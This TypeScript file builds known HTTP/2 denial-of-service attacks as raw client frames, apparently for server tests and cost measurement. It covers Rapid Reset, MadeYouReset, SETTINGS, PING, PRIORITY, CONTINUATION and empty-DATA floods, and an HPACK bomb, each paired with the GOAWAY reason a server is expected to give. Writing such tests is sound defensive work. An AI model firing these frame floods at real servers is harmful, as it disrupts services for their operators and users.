/** The known attacks on HTTP/2, as the frames that a client sends: for tests, and to measure what they cost others. */

import {
  block,
  frame,
  GET as GET_FIELDS,
  headers,
  POST as POST_FIELDS,
  settings,
  uint32,
} from './raw-frames.ts';

const WINDOW_BYTES_MAX = 0x7fffffff;

export interface Attack {
  readonly name: string;
  /** Words that the GOAWAY carries. */
  readonly reason: string;
  /** What comes before, once. */
  readonly before?: readonly Uint8Array[];
  /** The piece that is repeated, by its number from 1 on. */
  readonly piece: (number: number) => Uint8Array;
  /** Pieces that are sent at most. */
  readonly pieces: number;
}

const id = (number: number): number => number * 2 - 1;
const literal = Buffer.concat([Buffer.from('4001617fbd1d', 'hex'), Buffer.alloc(3900, 0x61)]);

/** `heldPath` is one whose answers take their time. */
export function attacks(scheme: string, authority = 'example.com', heldPath = '/held'): readonly Attack[] {
  const named = (fields: readonly [string, string][]): [string, string][] =>
    fields.map(([name, value]) => {
      if (name === ':scheme') return [name, scheme];
      return [name, name === ':authority' ? authority : value];
    });
  const GET = named(GET_FIELDS);
  const POST = named(POST_FIELDS);
  const held: [string, string][] = GET.map(([name, value]) => [name, name === ':path' ? heldPath : value]);
  const open = headers(1, POST, false);
  return [
    {
      name: 'Rapid Reset (CVE-2023-44487)',
      reason: 'reset-flood',
      piece: (number) => Buffer.concat([headers(id(number), held), frame(3, 0, id(number), uint32(8))]),
      pieces: 5000,
    },
    {
      name: 'MadeYouReset by a window that overflows (CVE-2025-8671)',
      reason: 'reset-flood',
      piece: (number) =>
        Buffer.concat([headers(id(number), held), frame(8, 0, id(number), uint32(WINDOW_BYTES_MAX))]),
      pieces: 5000,
    },
    {
      name: 'MadeYouReset by DATA behind the end',
      reason: 'reset-flood',
      piece: (number) => Buffer.concat([headers(id(number), held), frame(0, 1, id(number), 'x')]),
      pieces: 5000,
    },
    {
      name: 'malformed requests',
      reason: 'reset-flood',
      piece: (number) => headers(id(number), [['X', 'y']]),
      pieces: 5000,
    },
    {
      name: 'streams beyond the limit',
      reason: 'reset-flood',
      piece: (number) => headers(id(number), held),
      pieces: 5000,
    },
    {
      name: 'a flood of SETTINGS (CVE-2019-9515)',
      reason: 'settings-flood',
      piece: () => settings(),
      pieces: 10_000,
    },
    {
      name: 'a flood of PINGs (CVE-2019-9512)',
      reason: 'ping-flood',
      piece: () => frame(6, 0, 0, uint32(1, 2)),
      pieces: 10_000,
    },
    {
      name: 'a flood of PRIORITY (CVE-2019-9513)',
      reason: 'priority-flood',
      piece: (number) => frame(2, 0, id(number), Buffer.alloc(5)),
      pieces: 20_000,
    },
    {
      name: 'a flood of PRIORITY_UPDATE',
      reason: 'priority-flood',
      piece: () => frame(16, 0, 0, Buffer.concat([uint32(1), Buffer.from('u=1')])),
      pieces: 20_000,
    },
    {
      name: 'a flood of empty DATA (CVE-2019-9518)',
      reason: 'empty-frame-flood',
      before: [open],
      piece: () => frame(0, 0, 1),
      pieces: 10_000,
    },
    {
      name: 'a flood of unknown frames',
      reason: 'empty-frame-flood',
      piece: () => frame(0xaa, 0, 0),
      pieces: 10_000,
    },
    {
      name: 'a flood of WINDOW_UPDATEs',
      reason: 'window-update-flood',
      piece: () => frame(8, 0, 0, uint32(1)),
      pieces: 50_000,
    },
    {
      name: 'DATA of one byte each',
      reason: 'tiny-data-flood',
      before: [open],
      piece: () => frame(0, 0, 1, 'x'),
      pieces: 20_000,
    },
    {
      name: 'a flood of CONTINUATIONs (CVE-2024-27316)',
      reason: 'continuation-flood',
      before: [frame(1, 1, 1, block(GET))],
      piece: () => frame(9, 0, 1, block([['x', 'y']])),
      pieces: 10_000,
    },
    {
      name: 'one endless field block',
      reason: 'field-block-too-long',
      before: [frame(1, 1, 1, block(GET))],
      piece: (number) => frame(9, 0, 1, block([[`x-${number}`, 'y'.repeat(16_000)]])),
      pieces: 100,
    },
    {
      name: 'a field section that unfolds (CVE-2016-6581)',
      reason: 'hpack-bomb',
      piece: (number) =>
        frame(1, 5, id(number), Buffer.concat([block(GET), literal, Buffer.alloc(10_000, 0xbe)])),
      pieces: 1,
    },
  ];
}
